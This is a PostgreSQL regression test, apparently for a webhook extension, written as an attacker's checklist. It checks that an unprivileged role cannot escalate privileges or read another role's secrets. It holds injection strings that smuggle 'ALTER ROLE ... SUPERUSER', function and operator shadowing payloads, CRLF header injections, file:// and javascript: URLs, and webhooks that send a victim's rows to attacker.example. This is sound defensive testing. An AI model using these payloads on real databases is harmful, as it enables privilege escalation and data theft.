-- An attacker's checklist, run by a role that may call every function of the extension and nothing else.
-- Proves W14, W6 (secrets) and R6; webhook.dispatch = off in the test cluster keeps the messages in the outbox.
SET client_min_messages = error;
CREATE ROLE regress_victim;
CREATE ROLE regress_attacker;
CREATE SCHEMA attack AUTHORIZATION regress_attacker;
CREATE SCHEMA victim AUTHORIZATION regress_victim;
GRANT USAGE ON SCHEMA victim TO regress_attacker;
GRANT USAGE ON SCHEMA webhook TO regress_victim, regress_attacker;
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA webhook TO regress_victim, regress_attacker;

CREATE FUNCTION attack.attempt(command text, OUT code text, OUT message text) LANGUAGE plpgsql AS $$
DECLARE
    detail text;
BEGIN
    EXECUTE command;
    message := 'NOT REFUSED';
EXCEPTION WHEN OTHERS THEN
    GET STACKED DIAGNOSTICS code = RETURNED_SQLSTATE, message = MESSAGE_TEXT, detail = PG_EXCEPTION_DETAIL;
    message := message || coalesce(' / ' || nullif(detail, ''), '');
END
$$;

SET SESSION AUTHORIZATION regress_victim;
CREATE TABLE victim.guest (id integer PRIMARY KEY, name text, card text);
SELECT webhook.watch('victim.guest', 'guest');
SELECT webhook.create_webhook('victim', 'guest.*', 'https://victim.example/?key=s3cr3t', name => 'v',
    headers => '{"Authorization": "Bearer s3cr3t"}', secret => 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw') AS victim_id \gset
INSERT INTO victim.guest VALUES (1, 'Ada', '4111');
SET SESSION AUTHORIZATION regress_attacker;
SET search_path = attack, pg_catalog;

-- Everything that can be selected from is closed.
SELECT c.relname, a.code FROM pg_class AS c, attack.attempt(format('SELECT * FROM webhook.%I', c.relname)) AS a
    WHERE c.relnamespace = 'webhook'::regnamespace AND c.relkind IN ('r', 'v', 'p', 'm', 'S') AND a.code IS DISTINCT FROM '42501';
SELECT DISTINCT a.code FROM pg_class AS c,
    unnest(ARRAY['INSERT INTO webhook.%I DEFAULT VALUES', 'DELETE FROM webhook.%I', 'TRUNCATE webhook.%I', 'LOCK webhook.%I',
                 'DROP TABLE webhook.%I', 'COPY webhook.%I TO STDOUT', 'CREATE TRIGGER t BEFORE INSERT ON webhook.%I FOR EACH ROW EXECUTE FUNCTION webhook.capture()']) AS command,
    attack.attempt(format(command, c.relname)) AS a
    WHERE c.relnamespace = 'webhook'::regnamespace AND c.relkind = 'r' AND command NOT LIKE 'COPY%';
SELECT attack.attempt('CREATE FUNCTION webhook.mine() RETURNS integer LANGUAGE sql AS ''SELECT 1''');

-- No function returns anything of the victim's.
SELECT count(*) FROM webhook.get_webhooks();
SELECT count(*) FROM webhook.get_webhooks('victim');
SELECT f, a.code, replace(a.message, :'victim_id', 'N') AS message FROM unnest(ARRAY['get_secret(%s)', 'get_public_key(%s)',
    'rotate_secret(%s)', 'update_webhook(%s, ''{"url": "https://attacker.example/"}'')', 'activate_webhook(%s)',
    'deactivate_webhook(%s)', 'delete_webhook_by_id(%s)', 'test_webhook(%s)', 'fire_webhook(%s, ''1'')',
    'redeliver(%s, ''00000000-0000-0000-0000-000000000000'')']) AS f, attack.attempt(format('SELECT webhook.' || f, :victim_id)) AS a;
SELECT count(*) FROM webhook.get_webhook_log(:victim_id);
SELECT count(*) FROM webhook.get_manual_actions('guest');
SELECT (attack.attempt('SELECT webhook.reactivate(''00000000'')')).code;
SELECT (attack.attempt('SELECT webhook.get_attendees(''00000000'')')).code;
SELECT count(*) FROM pg_stats WHERE schemaname = 'webhook';

-- Rows of a table that the attacker may not read.
SELECT (attack.attempt($$SELECT webhook.create_webhook('a', 'guest.create', 'https://attacker.example/')$$)).*;
SELECT (attack.attempt($$SELECT webhook.create_webhook('a', 'x.y,guest.*', 'https://attacker.example/')$$)).*;
SELECT (attack.attempt($$SELECT webhook.watch('victim.guest', 'mine')$$)).*;
SELECT (attack.attempt($$SELECT webhook.unwatch('victim.guest')$$)).*;
SELECT (attack.attempt($$CREATE TRIGGER t AFTER INSERT ON victim.guest FOR EACH ROW EXECUTE FUNCTION webhook.capture()$$)).*;
SELECT webhook.create_webhook('a', '*', 'https://attacker.example/{event_uid}') AS spy \gset
SELECT webhook.create_webhook('a', 'later.*', 'https://attacker.example/') AS later \gset
SELECT (attack.attempt(format($$SELECT webhook.update_webhook(%s, '{"event": "guest.update"}')$$, :later))).*;
SELECT (attack.attempt(format($$SELECT webhook.update_webhook(%s, '{"owner": "regress_victim"}')$$, :later))).*;

-- Watching one's own table neither shows it to others' webhooks nor shows theirs to one's own.
CREATE TABLE attack.guest (id integer PRIMARY KEY, name text);
SELECT webhook.watch('attack.guest', 'guest');
INSERT INTO attack.guest VALUES (1, 'bait');
SET SESSION AUTHORIZATION regress_victim;
INSERT INTO victim.guest VALUES (2, 'Bob', '4222');
RESET SESSION AUTHORIZATION;
SELECT payload, webhook_ids = ARRAY[:victim_id]::bigint[] AS to_victim, webhook_ids = ARRAY[:spy]::bigint[] AS to_attacker
    FROM webhook.outbox WHERE entity_type = 'guest' ORDER BY id;

-- Expressions, payload functions and casts run as the table's owner, in a restricted operation.
SET SESSION AUTHORIZATION regress_attacker;
CREATE FUNCTION attack.escalate() RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    result text := current_user || ' ';
    command text;
BEGIN
    FOREACH command IN ARRAY ARRAY['ALTER ROLE regress_attacker SUPERUSER', 'SET SESSION AUTHORIZATION DEFAULT', 'RESET ROLE',
        'SET ROLE regress_victim', 'GRANT regress_victim TO regress_attacker', 'CREATE TEMP TABLE t ()',
        'SELECT secret FROM webhook.webhook']
    LOOP
        BEGIN
            EXECUTE command;
            result := result || '!' || command || '! ';
        EXCEPTION WHEN OTHERS THEN
            result := result || SQLSTATE || ' ';
        END;
    END LOOP;
    RETURN result;
END
$$;
CREATE TYPE attack.bomb AS (x integer);
CREATE FUNCTION attack.bomb_json(attack.bomb) RETURNS json LANGUAGE sql AS $$ SELECT to_json(attack.escalate()) $$;
CREATE CAST (attack.bomb AS json) WITH FUNCTION attack.bomb_json(attack.bomb);
CREATE TYPE attack.fuse AS ENUM ('short');
CREATE FUNCTION attack.fuse_json(attack.fuse) RETURNS json LANGUAGE sql AS $$ SELECT to_json(attack.escalate()) $$;
CREATE CAST (attack.fuse AS json) WITH FUNCTION attack.fuse_json(attack.fuse);
CREATE TABLE attack.trap (id integer PRIMARY KEY, nested attack.bomb[], fuse attack.fuse);
CREATE TABLE attack.function_trap (id integer PRIMARY KEY);
CREATE FUNCTION attack.payload(attack.function_trap) RETURNS jsonb LANGUAGE sql AS $$ SELECT to_jsonb(attack.escalate()) $$;
SELECT webhook.watch('attack.trap', 'trap', event_uid => 'attack.escalate()');
SELECT webhook.watch('attack.function_trap', 'trap', payload => 'attack.payload(attack.function_trap)');
SELECT (attack.attempt($$SELECT webhook.watch('attack.trap', 'trap', event_uid => '1); ALTER ROLE regress_attacker SUPERUSER; SELECT (1')$$)).*;
RESET SESSION AUTHORIZATION;
INSERT INTO attack.trap VALUES (1, '{(1)}', 'short');
INSERT INTO attack.function_trap VALUES (1);
SELECT event_uid, payload FROM webhook.outbox WHERE entity_type = 'trap' ORDER BY id;
SELECT rolname, rolsuper FROM pg_roles WHERE rolname = 'regress_attacker';

-- Shadowing of functions, operators and types that the extension's own SQL uses.
SET SESSION AUTHORIZATION regress_attacker;
CREATE FUNCTION attack.hit(anyelement) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'shadowed as %', current_user; END $$;
CREATE FUNCTION attack.pg_has_role(oid, oid, text) RETURNS boolean LANGUAGE sql AS 'SELECT attack.hit(1)';
CREATE FUNCTION attack.unnest(interval[]) RETURNS SETOF interval LANGUAGE sql AS 'SELECT interval ''0'' WHERE attack.hit(1)';
CREATE FUNCTION attack.count(text) RETURNS bigint LANGUAGE sql AS 'SELECT 1::bigint WHERE attack.hit(1)';
CREATE FUNCTION attack.now() RETURNS timestamptz LANGUAGE sql AS 'SELECT clock_timestamp() WHERE attack.hit(1)';
CREATE FUNCTION attack.equal(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT attack.hit(1)';
CREATE FUNCTION attack.equal(bigint, bigint) RETURNS boolean LANGUAGE sql AS 'SELECT attack.hit(1)';
CREATE OPERATOR attack.= (LEFTARG = text, RIGHTARG = text, FUNCTION = attack.equal);
CREATE OPERATOR attack.= (LEFTARG = bigint, RIGHTARG = bigint, FUNCTION = attack.equal);
CREATE TYPE attack.int8 AS ENUM ('shadowed');
SELECT count(*) > 0 AS listed FROM webhook.get_webhooks();
SELECT webhook.create_webhook('a', 'shadow.test', 'https://attacker.example/', retry_schedule => '{1 s}') AS shadow \gset
SELECT length(webhook.rotate_secret(:shadow)) AS secret_length;
SELECT webhook.pending(:shadow) AS pending, (SELECT count(*) FROM webhook.get_webhook_log(:shadow)) AS logged;
SELECT webhook.deactivate_webhook(:shadow), webhook.activate_webhook(:shadow, true), webhook.delete_webhook_by_id(:shadow);
CREATE TEMP TABLE webhook (id bigint, owner regrole, secret text);
SELECT count(*) > 0 AS listed FROM webhook.get_webhooks();
RESET search_path;

-- The same in a schema in which others may create objects, and which is in the search path of a table's owner.
SET SESSION AUTHORIZATION regress_victim;
CREATE TYPE victim.colour AS ENUM ('red', 'blue');
CREATE TABLE victim.palette (id victim.colour, n varchar(9), PRIMARY KEY (id, n));
INSERT INTO victim.palette VALUES ('red', 'a');
GRANT USAGE ON SCHEMA victim TO regress_attacker;
SET SESSION AUTHORIZATION regress_attacker;
GRANT USAGE ON SCHEMA attack TO regress_victim;
CREATE FUNCTION attack.equal(victim.colour, victim.colour) RETURNS boolean LANGUAGE sql AS 'SELECT attack.hit(1)';
CREATE FUNCTION attack.equal(varchar, varchar) RETURNS boolean LANGUAGE sql AS 'SELECT attack.hit(1)';
CREATE OPERATOR attack.= (LEFTARG = victim.colour, RIGHTARG = victim.colour, FUNCTION = attack.equal);
CREATE OPERATOR attack.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = attack.equal);
SET SESSION AUTHORIZATION regress_victim;
SET search_path = victim, attack;
SELECT webhook.watch('palette', 'palette');
RESET search_path;
SELECT webhook.create_webhook('victim', 'palette.*', 'https://victim.example/') AS palette_hook \gset
SELECT webhook.fire_webhook(:palette_hook, 'red,a') <> '' AS fired;
SET SESSION AUTHORIZATION regress_attacker;

-- Headers and URLs that could be misinterpreted.
SELECT header, (attack.attempt(format('SELECT webhook.create_webhook(''a'', ''x.y'', ''https://h/'', headers => %L)', header))).*
    FROM unnest(ARRAY['{"X": "a\r\nHost: evil"}', '{"X": "a\nb"}', '{"X\r\nHost": "a"}', '{"X:Y": "a"}', '{"X ": "a"}', '{"": "a"}',
        '{"Host": "evil"}', '{"hOsT": "evil"}', '{"Content-Length": "0"}', '{"Transfer-Encoding": "chunked"}', '{"webhook-signature": "v1,x"}',
        '{"Webhook-Id": "x"}', '{"webhook-timestamp": "1"}', '{"X": 1}', '{"X": "a", "x": "b"}', '{"Connection": "close"}']::jsonb[]) AS header;
SELECT url, (attack.attempt(format('SELECT webhook.create_webhook(''a'', ''x.y'', %L)', url))).*
    FROM unnest(ARRAY['http://user:pass@h/', 'http://h\@evil/', 'file:///etc/passwd', 'gopher://h/', 'unix:/run/x', 'http://', '//h/',
        'http://{entity_id}/', 'http://h:{entity_id}/', 'http://h:99999/', 'http://h/' || chr(10) || 'X: y', 'http://h /', 'http://h/ x',
        'http://[::1', 'http://h/{secret}', 'ftp://h/', 'HTTP://', 'javascript:alert(1)']) AS url;

RESET SESSION AUTHORIZATION;
SELECT id FROM webhook.webhook WHERE url LIKE '%evil%';
SELECT count(webhook.delete_webhook_by_id(id)) FROM webhook.get_webhooks() WHERE app IN ('a', 'victim');
SELECT webhook.unwatch('victim.guest'), webhook.unwatch('attack.guest'), webhook.unwatch('victim.palette'), webhook.unwatch('attack.trap'), webhook.unwatch('attack.function_trap');
DROP SCHEMA attack CASCADE;
DROP SCHEMA victim CASCADE;
DROP OWNED BY regress_attacker, regress_victim;
DROP ROLE regress_attacker, regress_victim;
